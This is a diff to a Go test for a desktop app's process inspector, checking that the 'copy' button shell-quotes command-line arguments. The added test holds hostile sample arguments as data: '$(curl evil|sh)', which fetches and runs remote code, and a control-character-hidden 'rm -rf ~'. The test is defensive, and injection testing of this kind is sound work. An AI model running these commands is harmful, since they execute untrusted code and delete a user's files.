@@ -369,6 +369,14 @@ func TestInspectorCopyAndFolder(t *testing.T) {
 	if got := fyne.CurrentApp().Clipboard().Content(); got != "llama-server -m qwen3.gguf" {
 		t.Errorf("clipboard = %q", got)
 	}
+	// A hostile argument is pasted as an argument, not run.
+	hostile := s.Processes[0]
+	hostile.Cmdline = []string{"llama-server", "--alias", "$(curl evil|sh)", "a\x15rm -rf ~\n"}
+	i.Show(s, &hostile)
+	test.Tap(i.copyBtn)
+	if got, want := fyne.CurrentApp().Clipboard().Content(), `llama-server --alias '$(curl evil|sh)' $'a\x15rm -rf ~\n'`; got != want {
+		t.Errorf("clipboard = %s, want %s", got, want)
+	}
 	var folder *widget.Button
 	for _, o := range test.LaidOutObjects(i.CanvasObject()) {
 		if b, ok := o.(*widget.Button); ok && b.Text == "Open folder" && b.Visible() {
